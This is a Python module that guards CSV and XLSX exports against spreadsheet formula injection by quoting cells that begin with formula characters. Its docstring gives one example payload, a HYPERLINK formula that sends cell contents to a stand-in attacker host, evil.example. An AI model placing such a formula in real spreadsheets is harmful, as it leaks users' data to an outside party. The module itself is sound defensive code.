"""Text cells that spreadsheets never run as formulas (CSV / formula injection).

A school named ``=HYPERLINK("http://evil.example/?"&A1, "open")`` must reach
a planner's Excel as that text, not as a live formula. Following the OWASP
CSV-injection guidance, a text cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is written

* in CSV with a single quote in front (``'=HYPERLINK(…``), which Excel and
  LibreOffice show as text; the readers take the quote off again
  (:func:`unescape_text`), so exported tables read back unchanged;
* in XLSX as a string cell with the "quote prefix" style (the cell keeps
  its exact text; editing it in Excel does not turn it into a formula).

Numbers stay numbers (``-3.5`` is data, not a formula). Every export goes
through :func:`safe_text`, :func:`safe_row`, :func:`csv_writer` or
:func:`protect_workbook`.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import IO, Any

__all__ = ["FORMULA_STARTS", "csv_writer", "is_formula_like", "protect_cell", "protect_workbook", "safe_row", "safe_text", "unescape_text"]

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_QUOTE = "'"


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet would run ``text`` as a formula."""
    return text[:1] in FORMULA_STARTS if text else False


def safe_text(value: Any) -> Any:
    """A CSV cell value that cannot run as a formula; non-text values are returned as they are.

    A text already starting with the quote followed by a formula character
    (or another quote) gets one more quote, so :func:`unescape_text` gives
    back exactly the original text.
    """
    if not isinstance(value, str) or not value:
        return value
    if is_formula_like(value) or (value[0] == _QUOTE and (is_formula_like(value[1:]) or value[1:2] == _QUOTE)):
        return _QUOTE + value
    return value


def unescape_text(value: Any) -> Any:
    """The text :func:`safe_text` was given (readers call this on CSV cells)."""
    if isinstance(value, str) and value[:1] == _QUOTE and (is_formula_like(value[1:]) or value[1:2] == _QUOTE):
        return value[1:]
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    """:func:`safe_text` on every cell of a row."""
    return [safe_text(v) for v in row]


class _SafeWriter:
    """A :func:`csv.writer` whose text cells are passed through :func:`safe_text`."""

    def __init__(self, writer: Any):
        self._writer = writer

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(fh: IO[str], **kwargs: Any) -> _SafeWriter:
    """``csv.writer(fh, **kwargs)`` that never writes a formula-like text cell."""
    return _SafeWriter(csv.writer(fh, **kwargs))


def protect_cell(cell: Any) -> None:
    """Mark an openpyxl cell holding formula-like text as plain text (string type, quote prefix)."""
    value = cell.value
    if isinstance(value, str) and is_formula_like(value):
        cell.data_type = "s"
        cell.quotePrefix = True


def protect_workbook(book: Any, sheets: Sequence[Any] | None = None) -> None:
    """:func:`protect_cell` on every cell of every sheet (call it right before saving)."""
    for ws in sheets if sheets is not None else book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    protect_cell(cell)
